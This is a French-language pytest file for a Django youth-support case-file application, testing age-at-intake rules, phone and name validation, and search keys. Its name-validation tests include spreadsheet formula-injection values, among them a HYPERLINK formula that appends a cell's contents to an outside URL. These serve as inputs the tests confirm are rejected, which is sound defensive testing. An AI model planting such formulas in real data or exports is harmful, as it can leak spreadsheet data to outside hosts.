"""Règles du dossier jeune (accompagnement/regles.py) : âge au premier accueil et téléphone, aux bornes, et la même
règle appliquée par la création, la modification de l'identité (service et écran) et la reprise de données."""

import datetime

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse

from accompagnement import regles, services
from accompagnement.models import Jeune, RepresentantLegal
from tests.accompagnement.factories import JeuneFactory, commune

ACCUEIL = datetime.date(2025, 6, 15)


def _ne_pour(age, veille=False):
    """Né il y a `age` ans jour pour jour au 15/06/2025 (la veille de cet anniversaire si `veille`)."""
    naissance = ACCUEIL.replace(year=ACCUEIL.year - age)
    return naissance + datetime.timedelta(days=1) if veille else naissance


@pytest.mark.parametrize(
    ("age", "veille", "motif", "champ_refuse"),
    [
        (16, True, "", "date_naissance"),  # 15 ans, la veille de ses 16 ans
        (16, False, "", None),  # 16 ans le jour même
        (25, False, "", None),
        (26, True, "", None),  # encore 25 ans la veille de ses 26 ans
        (26, False, "", "derogation_age_motif"),
        (26, False, "Orienté par le service social", None),
        (30, False, "Orienté par le service social", None),
        (31, True, "Orienté par le service social", None),  # 30 ans la veille de ses 31 ans
        (31, False, "Orienté par le service social", "date_naissance"),
    ],
)
def test_age_au_premier_accueil_aux_bornes(age, veille, motif, champ_refuse):
    naissance = _ne_pour(age, veille)
    if champ_refuse is None:
        assert regles.verifier_age_premier_accueil(
            date_naissance=naissance, date_premier_accueil=ACCUEIL, derogation_age_motif=motif
        ) == regles.age_au(naissance, ACCUEIL)
        return
    with pytest.raises(ValidationError) as erreur:
        regles.verifier_age_premier_accueil(
            date_naissance=naissance, date_premier_accueil=ACCUEIL, derogation_age_motif=motif
        )
    assert list(erreur.value.message_dict) == [champ_refuse]


@pytest.mark.parametrize(("age", "exige"), [(15, True), (16, False), (25, False), (26, True), (30, True)])
def test_derogation_hors_de_16_25_ans(age, exige):
    assert regles.exige_derogation(age) is exige


@pytest.mark.parametrize(("age", "accepte"), [(14, False), (15, True), (16, True), (30, True), (31, False)])
def test_age_admis_par_la_reprise(age, accepte):
    assert (regles.erreur_age_reprise(age) is None) is accepte


@pytest.mark.parametrize(
    ("numero", "valide"),
    [
        ("", True),
        ("06 12 34 56 78", True),
        ("06.12.34.56.78", True),
        ("0612345678", True),
        ("+33 6 12 34 56 78", True),
        ("+33 (0)6 12 34 56 78", True),
        ("abc", False),
        ("06 12 34 56", False),  # 8 chiffres
        ("06 12 34 56 7a", False),
        ("1234567890123456", False),  # 16 chiffres
        ("06+12345678", False),
    ],
)
def test_telephone(numero, valide):
    assert regles.telephone_valide(numero) is valide


# --- Services : création et modification de l'identité ---------------------------------------------------------


@pytest.mark.django_db
def test_creation_refuse_un_telephone_invalide(accueil_rennes):
    with pytest.raises(ValidationError) as erreur:
        services.jeune_creer(
            par=accueil_rennes,
            nom="Le Goff",
            prenom="Éloïse",
            sexe="f",
            date_naissance=_ne_pour(19).replace(year=datetime.date.today().year - 19),
            commune=commune("35051"),
            telephone="abc",
        )
    assert erreur.value.message_dict["telephone"] == [regles.MESSAGE_TELEPHONE]
    assert not Jeune.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("ans_au_premier_accueil", "accepte"), [(15, False), (16, True), (25, True), (26, False), (40, False)]
)
def test_modifier_identite_applique_la_regle_d_age_du_premier_accueil(
    conseiller_rennes, ans_au_premier_accueil, accepte
):
    jeune = JeuneFactory(date_premier_accueil=ACCUEIL, date_naissance=_ne_pour(19))
    naissance = _ne_pour(ans_au_premier_accueil)
    if accepte:
        services.jeune_modifier_identite(jeune=jeune, par=conseiller_rennes, date_naissance=naissance)
        jeune.refresh_from_db()
        assert jeune.date_naissance == naissance
        return
    with pytest.raises(ValidationError) as erreur:
        services.jeune_modifier_identite(jeune=jeune, par=conseiller_rennes, date_naissance=naissance)
    assert f"Le jeune a {ans_au_premier_accueil} ans au 15/06/2025" in erreur.value.message_dict["date_naissance"][0]
    jeune.refresh_from_db()
    assert jeune.date_naissance == _ne_pour(19)


@pytest.mark.django_db
def test_modifier_identite_avec_derogation_accepte_jusqu_a_30_ans(conseiller_rennes):
    jeune = JeuneFactory(date_premier_accueil=ACCUEIL, derogation_age_motif="Dérogation de la direction")
    services.jeune_modifier_identite(jeune=jeune, par=conseiller_rennes, date_naissance=_ne_pour(30))
    with pytest.raises(ValidationError):
        services.jeune_modifier_identite(jeune=jeune, par=conseiller_rennes, date_naissance=_ne_pour(31))


@pytest.mark.django_db
def test_age_repris_hors_limites_n_empeche_pas_de_corriger_le_telephone(conseiller_rennes):
    """Un dossier repris à 15 ans (historique) garde sa date de naissance : on peut corriger le reste."""
    jeune = JeuneFactory(date_premier_accueil=ACCUEIL, date_naissance=_ne_pour(15), derogation_age_motif="Reprise")
    services.jeune_modifier_identite(jeune=jeune, par=conseiller_rennes, telephone="07 00 00 00 00")
    jeune.refresh_from_db()
    assert jeune.telephone == "07 00 00 00 00"


@pytest.mark.django_db
def test_modifier_identite_refuse_un_telephone_invalide(conseiller_rennes):
    jeune = JeuneFactory()
    with pytest.raises(ValidationError) as erreur:
        services.jeune_modifier_identite(jeune=jeune, par=conseiller_rennes, telephone="abc")
    assert erreur.value.message_dict["telephone"] == [regles.MESSAGE_TELEPHONE]
    jeune.refresh_from_db()
    assert jeune.telephone == "06 12 34 56 78"


@pytest.mark.django_db
def test_representant_legal_refuse_un_telephone_invalide(conseiller_rennes):
    jeune = JeuneFactory(mineur=True)
    with pytest.raises(ValidationError) as erreur:
        services.representant_legal_ajouter(
            jeune=jeune, par=conseiller_rennes, nom="Le Goff", prenom="Anne", lien="Mère", telephone="abc"
        )
    assert erreur.value.message_dict["telephone"] == [regles.MESSAGE_TELEPHONE]
    assert RepresentantLegal.objects.filter(jeune=jeune, nom="Le Goff").count() == 0


# --- Écran de modification de l'identité : ce que voit le conseiller --------------------------------------------


def _donnees_identite(jeune, **kwargs):
    donnees = {
        "nom": jeune.nom,
        "nom_usage": "",
        "prenom": jeune.prenom,
        "sexe": jeune.sexe,
        "date_naissance": jeune.date_naissance.isoformat(),
        "nationalite": "francaise",
        "adresse": jeune.adresse,
        "commune": "Rennes (35238)",
        "secteur": str(jeune.secteur_id),
        "telephone": jeune.telephone,
        "courriel": "",
        "identifiant_externe": "",
    }
    donnees.update(kwargs)
    return donnees


@pytest.mark.django_db
@pytest.mark.parametrize("htmx", [False, True])
def test_ecran_identite_refuse_40_ans_et_telephone_abc_sans_rien_changer(client_de, conseiller_rennes, htmx):
    jeune = JeuneFactory(date_premier_accueil=ACCUEIL, date_naissance=_ne_pour(19))
    avant = Jeune.objects.values().get(pk=jeune.pk)
    url = reverse("accompagnement:jeune_modifier_identite", kwargs={"pk": jeune.pk})
    client = client_de(conseiller_rennes)
    entetes = {"HX-Request": "true"} if htmx else {}

    reponse = client.post(
        url, _donnees_identite(jeune, date_naissance=_ne_pour(40).isoformat(), adresse="Ailleurs"), headers=entetes
    )
    assert reponse.status_code == 200
    contenu = reponse.content.decode()
    assert "Le jeune a 40 ans au 15/06/2025 : l&#x27;accueil n&#x27;est pas possible au-delà de 30 ans" in contenu
    assert Jeune.objects.values().get(pk=jeune.pk) == avant

    reponse = client.post(url, _donnees_identite(jeune, telephone="abc", adresse="Ailleurs"), headers=entetes)
    assert reponse.status_code == 200
    assert "Numéro de téléphone invalide" in reponse.content.decode()
    assert Jeune.objects.values().get(pk=jeune.pk) == avant

    reponse = client.post(url, _donnees_identite(jeune, telephone="+33 6 11 22 33 44"), headers=entetes)
    assert reponse.status_code == (200 if htmx else 302)
    jeune.refresh_from_db()
    assert jeune.telephone == "+33 6 11 22 33 44"


@pytest.mark.django_db
def test_ecran_premier_accueil_refuse_un_telephone_invalide(client_de, accueil_rennes):
    reponse = client_de(accueil_rennes).post(
        reverse("accompagnement:jeune_creer"),
        {
            "nom": "Le Goff",
            "prenom": "Éloïse",
            "sexe": "f",
            "date_naissance": _ne_pour(19).replace(year=datetime.date.today().year - 19).isoformat(),
            "nationalite": "francaise",
            "commune": "35051",
            "telephone": "abc",
            "date_premier_accueil": datetime.date.today().isoformat(),
        },
    )
    assert reponse.status_code == 200
    assert "Numéro de téléphone invalide" in reponse.content.decode()
    assert not Jeune.objects.exists()


# --- Noms et prénoms -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("nom", ["Le Goff", "N'Diaye", "Éloïse", "Ødegaard", "Nguyễn", "محمد"])
def test_nom_qui_commence_par_une_lettre_accepte(nom):
    regles.valider_nom_personne(nom)


@pytest.mark.parametrize("nom", ["=1+1", '=HYPERLINK("http://x";"y")', "+33", "-Martin", "@SUM(A1)", " Martin", "1er"])
def test_nom_qui_ne_commence_pas_par_une_lettre_refuse(nom):
    with pytest.raises(ValidationError) as erreur:
        regles.valider_nom_personne(nom)
    assert erreur.value.messages == [regles.MESSAGE_NOM]


@pytest.mark.django_db
def test_ecran_premier_accueil_refuse_un_nom_formule(client_de, accueil_rennes):
    reponse = client_de(accueil_rennes).post(
        reverse("accompagnement:jeune_creer"),
        {
            "nom": '=HYPERLINK("http://exemple.org/?"&B2;"Ouvrir")',
            "prenom": "Éloïse",
            "sexe": "f",
            "date_naissance": _ne_pour(19).replace(year=datetime.date.today().year - 19).isoformat(),
            "nationalite": "francaise",
            "commune": "35051",
            "date_premier_accueil": datetime.date.today().isoformat(),
        },
    )
    assert reponse.status_code == 200
    assert "Un nom ou un prénom commence par une lettre" in reponse.content.decode()
    assert not Jeune.objects.exists()


# --- Clé de recherche d'un nom ---------------------------------------------------------------------------------


def test_cle_recherche_sans_accents_ni_casse_ni_tirets():
    assert regles.cle_recherche("LE GOFF-Kerné", "", "Éloïse") == "le goff kerne eloise"
    assert regles.cle_recherche("Martin", "D'Aubigné", "Zoé") == "martin d aubigne zoe"
    assert regles.cle_recherche("Martin", None, "Zoé") == "martin zoe"


@pytest.mark.django_db
def test_la_cle_enregistree_est_celle_que_cherche_la_recherche():
    jeune = JeuneFactory(nom="Le Goff", nom_usage="Kerné", prenom="Éloïse")
    assert jeune.nom_recherche == regles.cle_recherche("Le Goff", "Kerné", "Éloïse")
    assert list(Jeune.objects.recherche("KERNE eloise")) == [jeune]
